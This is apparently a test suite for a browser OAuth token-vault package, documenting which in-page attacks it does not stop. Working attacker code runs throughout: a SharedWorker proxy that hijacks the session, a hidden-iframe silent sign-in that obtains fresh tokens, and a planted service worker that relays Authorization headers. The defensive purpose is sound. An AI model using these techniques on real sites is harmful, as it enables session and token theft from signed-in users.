// What the vault does not stop: hostile script in the page can use the session, and can have one of its own. Each of
// these works for the attacker; SECURITY.md says so.

import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, test } from "node:test";

import { startDemo } from "../../www/server/demo.mjs";
import { everything } from "./full-server.mjs";
import { authorizationResponse, openSuiteOver, PROBE, signInOnProbe, startOver } from "./harness.mjs";
import { StrictApi } from "./strict-api.mjs";

/** A file that got into the origin: it tells every page what the requests say that come its way. */
const SERVICE = `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => event.waitUntil(event.request.clone().text().then(async (body) => {
    for (const page of await clients.matchAll()) page.postMessage(body + " " + event.request.headers.get("authorization"));
  })));
`;

const api = new StrictApi();
const suite = await openSuiteOver(
  await startOver(
    async (own) => {
      await writeFile(join(own.dist, "service.js"), SERVICE);
      const servers = { extend: everything, api: (origins) => api.listener(origins) };
      return startDemo({ port: 0, redirectPaths: [`/${PROBE}`], ...own, ...servers });
    },
    PROBE,
    "wardkey/worker",
  ),
);
after(() => suite.close());

const OPTIONS = { clientId: "refresh", exposeAccessToken: false };

/** A test body with somebody signed in, and the attacker's own connection to the worker: `globalThis.ask`. */
const signedIn = (body) =>
  suite.withPage(async (tab) => {
    const { page, context } = tab;
    await context.addInitScript(() => {
      globalThis.SharedWorker = new Proxy(SharedWorker, {
        construct(target, [url, given]) {
          const options = globalThis.changeWorker?.(given) ?? given;
          globalThis.ask = (operation, argument) => {
            const { port } = new target(url, options);
            return new Promise((resolve) => {
              port.onmessage = ({ data }) => resolve(data);
              port.postMessage([1, 1, operation, argument]);
            });
          };
          return new target(url, options);
        },
      });
    });
    await signInOnProbe(page, suite, OPTIONS);
    await body(tab);
  });

const issued = (name) => suite.tokenRequests().map(({ body }) => JSON.parse(body)[name]);

test(
  "the attacker can have the worker make requests to an API that is in `api`",
  signedIn(async ({ page }) => {
    const answer = await page.evaluate(async (base) => {
      const call = { url: `${base}/notes`, init: { method: "PUT" }, headers: [], api: "", replayable: true };
      const [, , [head, body]] = await ask("fetch", call);
      return { status: head.init.status, ...(await new Response(body).json()) };
    }, suite.demo.apiUrl);
    assert.deepEqual([answer.status, answer.method, answer.sub], [200, "PUT", "alice"]);
  }),
);

test(
  "the attacker can sign in by itself, in a hidden frame, and has tokens of its own then",
  signedIn(async ({ page }) => {
    const { answer, status } = await page.evaluate(
      async ({ issuer, apiUrl, silent }) => {
        const text = (bytes) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "");
        const [verifier, state] = [0, 0].map(() => text(crypto.getRandomValues(new Uint8Array(32))));
        const challenge = text(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier))));
        const { authorization_endpoint, token_endpoint } = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
        const asked = { client_id: "refresh", redirect_uri: silent, response_type: "code", scope: "openid", prompt: "none" };
        const more = { state, nonce: state, code_challenge: challenge, code_challenge_method: "S256" };
        const heard = new Promise((resolve) => {
          new BroadcastChannel(`wardkey:${state}`).onmessage = ({ data }) => resolve(new URL(data).searchParams.get("code"));
        });
        const frame = document.createElement("iframe");
        frame.src = `${authorization_endpoint}?${new URLSearchParams({ ...asked, ...more })}`;
        document.body.append(frame);
        const form = { grant_type: "authorization_code", client_id: "refresh", redirect_uri: silent, code: await heard };
        const sent = await fetch(token_endpoint, { method: "POST", body: new URLSearchParams({ ...form, code_verifier: verifier }) });
        const answer = await sent.json();
        frame.remove();
        const headers = { Authorization: `Bearer ${answer.access_token}` };
        return { answer, status: (await fetch(`${apiUrl}/notes`, { headers })).status };
      },
      { issuer: suite.demo.issuer, apiUrl: suite.demo.apiUrl, silent: suite.url("silent.html") },
    );
    assert.equal(status, 200);
    assert.ok(answer.refresh_token, "and this server gives a refresh token along");
    const [first, second] = issued("access_token");
    assert.equal(answer.access_token, second);
    assert.notEqual(answer.access_token, first, "that of the vault is another one");
  }),
);

test(
  "the attacker who was there before the package has the tokens of whoever signs in through a worker of its making",
  signedIn(async ({ context }) => {
    const page = await context.newPage();
    await context.addInitScript(() => {
      globalThis.changeWorker = ({ name, ...rest }) => ({ ...rest, name: name?.replace('"exposesTokens":false', '"exposesTokens":true') });
    });
    await signInOnProbe(page, suite, OPTIONS);
    const token = await page.evaluate(async () => (await ask("getToken", "{}"))[2].accessToken);
    assert.equal(token, issued("access_token").at(-1));
  }),
);

test(
  "the attacker can have a worker's sign-out URL, and the ID token that is in it; and the person's claims",
  signedIn(async ({ page }) => {
    const { name, hint } = await page.evaluate(async () => {
      const [, , [, [state]]] = await ask("hello", '""');
      const [, , url] = await ask("signOut", "{}");
      return { name: state.user.claims.sub, hint: new URL(url).searchParams.get("id_token_hint") };
    });
    assert.equal(name, "alice");
    assert.equal(hint, issued("id_token")[0]);
  }),
);

test(
  "the attacker finds the verifier of a sign-in in progress where that is kept in the page's storage",
  suite.withPage(async ({ page }) => {
    await authorizationResponse(page, suite, {}, { ...OPTIONS, transactionStorage: "sessionStorage" });
    assert.match(await page.evaluate(() => JSON.stringify({ ...sessionStorage })), /verifier/);
  }),
);

test(
  "the attacker who can put a service worker's script into the origin sees what the worker sends",
  suite.withPage(async ({ page }) => {
    await page.goto(suite.url(PROBE));
    await page.evaluate(async () => {
      await navigator.serviceWorker.register(trustedTypes.createPolicy("x", { createScriptURL: (it) => it }).createScriptURL("/service.js"));
      await navigator.serviceWorker.ready;
    });
    await signInOnProbe(page, suite, OPTIONS);
    const heard = await page.evaluate(async (url) => {
      const heard = [];
      const until = new Promise((resolve) => {
        navigator.serviceWorker.onmessage = ({ data }) => {
          heard.push(data);
          if (data.includes("Bearer")) resolve();
        };
      });
      navigator.serviceWorker.startMessages();
      await client.fetch(url);
      await until;
      return heard.join();
    }, `${suite.demo.apiUrl}/notes`);
    assert.ok(heard.includes(issued("access_token")[0]));
  }),
);
